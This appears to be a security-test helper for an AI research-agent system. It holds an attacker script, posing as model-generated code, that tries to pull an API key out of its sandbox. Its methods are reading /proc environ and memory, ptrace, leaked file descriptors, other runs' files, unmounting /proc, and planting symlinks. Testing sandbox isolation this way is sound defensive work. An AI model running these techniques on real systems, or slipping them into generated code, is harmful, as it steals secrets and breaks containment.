"""Generated code acting as an attacker, and the orchestrator that runs it (tests/test_security_*.py).

``python3 security_attack.py attack SPEC_JSON`` runs inside a sandbox (standard library only)
and tries every way we know to reach the orchestrator: its environment and command line and
those of every process (``/proc/*/environ``, ``cmdline``, ``task/*/environ``), its memory
(``/proc/*/mem``, ptrace through ctypes), file descriptors it might have leaked, the files of
its run directory and of other runs, a hidden host ``/proc`` (``umount /proc``, also from a new
user namespace), and it writes marker files into ``/tmp`` ``/var/tmp`` ``/dev/shm``
``/run/lock``. It does not know the key's value: it keeps everything it read (bounded) in
``exfil.json`` in its working directory and lists every string shaped like the key, so the
test can check that the real value is nowhere in what it could write out.

``python security_attack.py orchestrate SPEC_JSON`` is the orchestrator side: started by the
test with the fake key in its *initial* environment, it writes two runs' files with the real
IO helpers under a 0700 ``mktemp -d`` directory, then runs the attacker through the requested
backend and saves the result.
"""

from __future__ import annotations

import ctypes
import json
import os
import re
import sys

KEY_SHAPE = re.compile(rb"sk-test-[0-9a-f]{32}")
TEMP_DIRS = ("/tmp", "/var/tmp", "/dev/shm", "/run/lock")
PER_READ = 1 << 20
MEM_BUDGET = 256 << 20


class Loot:
    def __init__(self) -> None:
        self.items: dict[str, str] = {}
        self.keys: set[str] = set()
        self.readable: list[str] = []
        self.mem_read = 0

    def add(self, label: str, data: bytes, keep: int = 4096) -> None:
        self.keys.update(m.decode() for m in KEY_SHAPE.findall(data))
        if label not in self.items:
            self.items[label] = data[:keep].decode("utf-8", "replace")
        self.readable.append(label)


def _read(path: str, limit: int = PER_READ) -> bytes | None:
    try:
        with open(path, "rb") as fh:
            return fh.read(limit)
    except OSError:
        return None


def scan_mem(loot: Loot, pid: str, tag: str) -> None:
    maps = _read(f"/proc/{pid}/maps")
    if not maps:
        return
    try:
        fh = open(f"/proc/{pid}/mem", "rb", buffering=0)
    except OSError:
        return
    with fh:
        for line in maps.decode(errors="replace").splitlines():
            parts = line.split()
            if len(parts) < 2 or "r" not in parts[1] or loot.mem_read > MEM_BUDGET:
                continue
            start, end = (int(x, 16) for x in parts[0].split("-"))
            try:
                fh.seek(start)
                chunk = fh.read(min(end - start, 64 << 20))
            except (OSError, OverflowError, ValueError):
                continue
            if chunk:
                loot.mem_read += len(chunk)
                loot.add(f"{tag}mem:{pid}:{parts[0]}", chunk, keep=256)


def scan_proc(loot: Loot, pids: list[str], tag: str = "") -> list[str]:
    try:
        listed = [d for d in os.listdir("/proc") if d.isdigit()]
    except OSError:
        listed = []
    me = str(os.getpid())
    for pid in sorted(set(listed) | set(pids)):
        for name in ("environ", "cmdline", "status", "maps"):
            data = _read(f"/proc/{pid}/{name}")
            if data is not None:
                loot.add(f"{tag}proc:{pid}/{name}", data)
        try:
            tasks = os.listdir(f"/proc/{pid}/task")
        except OSError:
            tasks = []
        for tid in tasks:
            data = _read(f"/proc/{pid}/task/{tid}/environ")
            if data is not None:
                loot.add(f"{tag}proc:{pid}/task/{tid}/environ", data)
        if pid != me:
            scan_mem(loot, pid, tag)
    return listed


def try_ptrace(loot: Loot, pids: list[str]) -> dict[str, str]:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    out = {}
    for pid in pids:
        if pid == str(os.getpid()):
            continue
        ret = libc.ptrace(16, int(pid), None, None)  # PTRACE_ATTACH
        if ret != 0:
            out[pid] = os.strerror(ctypes.get_errno())
            continue
        out[pid] = "ATTACHED"
        try:
            os.waitpid(int(pid), 0x40000000)  # __WALL
        except OSError:
            pass
        scan_mem(loot, pid, "ptrace:")
        libc.ptrace(17, int(pid), None, None)  # PTRACE_DETACH
    return out


def try_fds(loot: Loot) -> list[str]:
    opened = []
    for fd in range(3, 1024):
        try:
            os.fstat(fd)
        except OSError:
            continue
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            target = "?"
        opened.append(f"{fd}->{target}")
        try:
            data = os.pread(fd, PER_READ, 0)
        except OSError:
            try:
                data = os.read(fd, PER_READ)
            except OSError:
                continue
        loot.add(f"fd:{fd}:{target}", data)
    return opened


def try_files(loot: Loot, paths: list[str], max_files: int = 200) -> None:
    for path in paths:
        if os.path.isdir(path):
            walked = [os.path.join(b, n) for b, _d, names in os.walk(path) for n in names]
            for full in walked[:max_files]:
                data = _read(full)
                if data is not None:
                    loot.add(f"file:{full}", data)
            continue
        data = _read(path)
        if data is not None:
            loot.add(f"file:{path}", data)


def try_writes(marker: str) -> dict[str, str]:
    out = {}
    for d in TEMP_DIRS:
        path = os.path.join(d, marker)
        try:
            with open(path, "w") as fh:
                fh.write("attacker was here")
            out[d] = "WROTE"
        except OSError as exc:
            out[d] = type(exc).__name__
    return out


def try_unmount_proc(loot: Loot, pids: list[str]) -> dict[str, str]:
    """Reveal a host /proc hidden under ours: umount it, also as root of a new user namespace.

    Every attempt runs in a forked child inside a *new, private* mount namespace when it can
    create one, so even a run without a sandbox (the control) never unmounts the host's /proc;
    creating a mount namespace at all means the attacker holds CAP_SYS_ADMIN (reported)."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mount.argtypes = [ctypes.c_char_p, ctypes.c_char_p, ctypes.c_char_p, ctypes.c_ulong, ctypes.c_char_p]

    def in_child(flags: int, key: str) -> dict:
        r, w = os.pipe()
        child = os.fork()
        if child == 0:
            os.close(r)
            res: dict = {}
            if libc.unshare(flags) != 0:
                res[key] = "unshare: " + os.strerror(ctypes.get_errno())
                if flags == 0x00020000:  # no mount namespace of our own: try the current one
                    rc = libc.umount2(b"/proc", 2)
                    res[key] = "UNMOUNTED" if rc == 0 else os.strerror(ctypes.get_errno())
            else:
                res[key + "_created"] = "yes"
                # private first, or the umount would propagate to the namespace we came from
                if libc.mount(None, b"/", None, (1 << 14) | (1 << 18), None) != 0:  # MS_REC | MS_PRIVATE
                    res[key] = "not made private: " + os.strerror(ctypes.get_errno())
                elif libc.umount2(b"/proc", 2) != 0:  # MNT_DETACH
                    res[key] = os.strerror(ctypes.get_errno())
            if res.get(key) is None:
                res[key] = "UNMOUNTED"
                sub = Loot()
                scan_proc(sub, pids, key + ":")
                res["keys"], res["items"] = sorted(sub.keys), sub.items
            os.write(w, json.dumps(res).encode())
            os._exit(0)
        os.close(w)
        data = b""
        while chunk := os.read(r, 1 << 20):
            data += chunk
        os.waitpid(child, 0)
        return json.loads(data or b"{}")

    out: dict[str, str] = {}
    for flags, key in ((0x00020000, "umount"), (0x10000000 | 0x00020000, "userns_umount")):
        res = in_child(flags, key)  # CLONE_NEWNS, then CLONE_NEWUSER | CLONE_NEWNS
        loot.keys.update(res.pop("keys", []))
        for label, text in res.pop("items", {}).items():
            loot.add(label, text.encode())
        out.update(res)
    return out


def attack(spec: dict) -> dict:
    loot = Loot()
    loot.add("env", json.dumps(dict(os.environ)).encode())
    host_pids = [str(p) for p in spec.get("host_pids", [])]
    report: dict = {"uid": os.getuid(), "pid": os.getpid(), "ppid": os.getppid()}
    report["proc_pids"] = scan_proc(loot, host_pids + [str(os.getppid())])
    # attach only to what a sandbox could plausibly see (a broken one must not stop the whole host)
    seen = report["proc_pids"] if len(report["proc_pids"]) < 20 else []
    report["ptrace"] = try_ptrace(loot, sorted(set(seen) | set(host_pids) | {str(os.getppid())}))
    report["fds"] = try_fds(loot)
    try_files(loot, spec.get("paths", []))
    report["writes"] = try_writes(spec["marker"])
    report["mountinfo"] = (_read("/proc/self/mountinfo") or b"").decode(errors="replace")[:8000]
    report["unmount"] = try_unmount_proc(loot, host_pids)
    report["keys"] = sorted(loot.keys)
    report["readable"] = loot.readable
    report["loot"] = loot.items
    with open("exfil.json", "w") as fh:
        json.dump(report, fh)
    # confused deputy: links the orchestrator might follow later, reading files for us
    for name, target in spec.get("plant", []):
        try:
            os.symlink(target, name)
        except OSError:
            pass
    return report


# ------------------------------------------------------------------ orchestrator side --


def write_run(run_dir, canary: str) -> list[str]:
    """A run directory as the orchestrator writes it (real IO helpers), every file carrying ``canary``."""
    import sqlite3
    from pathlib import Path

    from ai_scientist.base.fileio import append_jsonl, atomic_write_json, atomic_write_text

    run_dir = Path(run_dir)
    run_dir.mkdir(mode=0o700, parents=True)
    append_jsonl(run_dir / "journal.jsonl", {"seq": 1, "node": {"id": "n0001", "plan": canary}})
    append_jsonl(run_dir / "events.jsonl", {"type": "run_started", "note": canary})
    atomic_write_text(run_dir / "config.resolved.yaml", f"note: {canary}\n")
    atomic_write_json(run_dir / "cost.json", {"note": canary})
    atomic_write_json(run_dir / "nodes" / "n0001" / "prompt_logs" / "000_phase0_plan.json", {"m": canary})
    with sqlite3.connect(run_dir / "memory.sqlite") as db:
        db.execute("create table t (v text)")
        db.execute("insert into t values (?)", (canary,))
    return [str(run_dir / n) for n in ("journal.jsonl", "events.jsonl", "memory.sqlite",
                                       "config.resolved.yaml", "cost.json", "nodes/n0001")]  # fmt: skip


class HostRunner:
    """No sandbox: runs the attacker directly (with an empty environment) to show it works."""

    def run(self, argv, *, workspace, limits):
        import subprocess

        proc = subprocess.run(argv, cwd=workspace, env={"PATH": "/usr/bin:/bin"}, capture_output=True,
                              text=True, timeout=limits.timeout_s)  # fmt: skip

        class Result:
            def to_dict(self):
                return {"exit_code": proc.returncode, "stdout": proc.stdout, "stderr": proc.stderr, "ok":
                        proc.returncode == 0, "extra": {}}  # fmt: skip

        return Result()

    def close(self) -> None:
        pass


def orchestrate(spec: dict) -> None:
    import shutil
    import tempfile
    from pathlib import Path

    if spec["backend"] == "host":
        executor = HostRunner()  # the control: no sandbox at all, the attacker must find the key
    elif spec["backend"] == "docker":
        from ai_scientist.execution.docker_backend import DockerExecutor

        executor = DockerExecutor(spec["image"], reuse=spec.get("reuse", False))
    else:
        from ai_scientist.base.config import load_config
        from ai_scientist.execution.registry import make_executor

        sets = [f"exec.allow_unsafe_sandbox={str(spec.get('allow_unsafe', False)).lower()}",
                f"exec.fork_server={str(spec.get('fork_server', True)).lower()}"]  # fmt: skip
        executor = make_executor(load_config(overrides=sets), spec["backend"])
    base = Path(tempfile.mkdtemp(prefix="ai-sci-sec-"))  # 0700: not traversable by other users
    try:
        _attack_run(spec, executor, base)
    finally:
        shutil.rmtree(base, ignore_errors=True)


def _attack_run(spec: dict, executor, base) -> None:
    """Two runs' files under ``base``, a decoy host process, then the attacker in ``executor``."""
    import subprocess
    from pathlib import Path

    from ai_scientist.base.fileio import atomic_write_json
    from ai_scientist.execution.base import Limits

    other = write_run(base / "experiments" / "other-run", spec["canary"])
    own = write_run(base / "experiments" / "this-run", spec["canary"])
    ws = base / "experiments" / "this-run" / "nodes" / "n0002" / "workspace"
    ws.mkdir(parents=True)
    (ws / "attack.py").write_text(Path(__file__).read_text())
    # a host process whose command line and environment carry what the sandbox must not see
    decoy = subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(120)", spec["decoy_marker"]],
        env={"OPENAI_API_KEY": os.environ["OPENAI_API_KEY"], "PATH": "/usr/bin:/bin"},
    )
    try:
        attack_spec = {
            "host_pids": [os.getpid(), decoy.pid],
            "paths": [*own, *other, str(base / "experiments" / "other-run"), str(Path.home())],
            "marker": spec["marker"],
        }
        lim = Limits(timeout_s=120, memory_mb=2048, pids=64)
        result = executor.run(
            ["python3", "attack.py", "attack", json.dumps(attack_spec)], workspace=ws, limits=lim
        )
    finally:
        decoy.kill()
        decoy.wait()
        executor.close()
    files = {}
    for path in sorted(ws.rglob("*")):
        if path.is_file():
            files[str(path.relative_to(ws))] = path.read_bytes().decode("utf-8", "replace")
    atomic_write_json(
        spec["out"],
        {
            "result": result.to_dict(),
            "files": files,
            "base": str(base),
            "orchestrator_pid": os.getpid(),
            "host_pids": attack_spec["host_pids"],
        },
    )


def pipeline(spec: dict) -> None:
    """Two real runs of the bundled example (scripted LLM) under a 0700 ``mktemp -d``: the second
    run's first draft is the attacker. Writes what came out to ``spec["out"]``; keeps the runs."""
    import subprocess
    import tempfile
    from pathlib import Path

    sys.path.insert(0, str(Path(__file__).resolve().parent))
    from ai_scientist_testing.scripted import ExampleResponder
    from pipeline_support import run_args

    from ai_scientist.base.fileio import atomic_write_json
    from ai_scientist.cli.commands import execute, setup_run
    from ai_scientist.llm.scripted_backend import ScriptedBackend

    base = Path(tempfile.mkdtemp(prefix="ai-sci-sec-run-"))  # 0700, the case of the issue
    out_root = base / "experiments"
    decoy = subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(300)", spec["decoy_marker"]],
        env={"OPENAI_API_KEY": os.environ["OPENAI_API_KEY"], "PATH": "/usr/bin:/bin"},
    )
    names = ("journal.jsonl", "events.jsonl", "memory.sqlite", "config.resolved.yaml", "cost.json",
             "state.json", "nodes/n0001/prompt_logs")  # fmt: skip
    attack_spec = {
        "host_pids": [os.getpid(), decoy.pid],
        "paths": [str(out_root / "other")] + [str(out_root / "this" / n) for n in names],
        "marker": spec["marker"],
        "plant": [
            ["steal.py", str(out_root / "other" / "journal.jsonl")],
            ["environ.txt", "/proc/self/environ"],
            ["steal.json", str(out_root / "other" / "journal.jsonl")],
            ["metrics.json", "/proc/self/environ"],
            ["zero.py", "/dev/zero"],
        ],  # fmt: skip
    }
    attacker = Path(__file__).read_text()

    class Responder(ExampleResponder):
        def __init__(self, attack_node: str | None, canary: str):
            super().__init__(buggy_nodes=())
            self.attack_node, self.canary = attack_node, canary

        def _phase0(self, text, ctx):  # the canary reaches the journal, memory and prompt logs
            plan = json.loads(super()._phase0(text, ctx))
            plan["goal_summary"] += " " + self.canary
            return json.dumps(plan)

        def _phase2(self, text, ctx):
            if ctx.node_id != self.attack_node:
                return super()._phase2(text, ctx)
            files = [{"path": "attack.py", "content": attacker}, {"path": "spec.json", "content":
                     json.dumps(attack_spec)}]  # fmt: skip
            return json.dumps({
                "summary": "draft: an experiment", "files": files, "build": {"language": "python"},
                "run": {"commands": ["/usr/bin/python3 attack.py attack-file spec.json"],
                        "expected_outputs": ["metrics.json"]},
            })  # fmt: skip

    sets = [f"exec.backend={spec['backend']}", "agent.stages.stage2_max_iters=0",
            "agent.stages.stage3_max_iters=0", "agent.stages.stage4_max_iters=0"]  # fmt: skip
    codes = {}
    try:
        for name, node, canary in (("other", None, spec["canary"]), ("this", "n0001", spec["own_canary"])):
            run, resources = setup_run(run_args(base, *sets, name=name))
            codes[name] = execute(run, resources=resources, backend=ScriptedBackend(Responder(node, canary)))
    finally:
        decoy.kill()
        decoy.wait()
    from ai_scientist.cli.main import main as cli

    html = base / "tree.html"  # the viewer, run by the orchestrator, reads the attacker's workspace
    view_code = cli(["view", str(out_root / "this"), "--html", str(html)])
    page = html.read_text() if html.exists() else ""
    ws = out_root / "this" / "nodes" / "n0001" / "workspace"
    exfil = ws / "exfil.json"
    atomic_write_json(spec["out"], {
        "codes": codes, "base": str(base), "orchestrator_pid": os.getpid(), "host_pids": attack_spec["host_pids"],
        "exfil": exfil.read_text() if exfil.exists() else None,
        "view_code": view_code, "page_bytes": len(page), "page_has_canary": spec["canary"] in page,
        "page_has_environ": os.environ.get("AISCI_ORCH_MARKER", "\0") in page or os.environ["OPENAI_API_KEY"] in page,
        "planted": sorted(p.name for p in ws.iterdir() if p.is_symlink()),
    })  # fmt: skip


if __name__ == "__main__":
    mode, arg = sys.argv[1], sys.argv[2]
    if mode == "attack-file":
        mode, arg = "attack", open(arg).read()
    arg = json.loads(arg)
    if mode == "attack":
        rep = attack(arg)
        print(json.dumps({k: rep[k] for k in ("uid", "keys", "writes", "ptrace", "fds", "unmount")}))
    elif mode == "pipeline":
        pipeline(arg)
    else:
        orchestrate(arg)
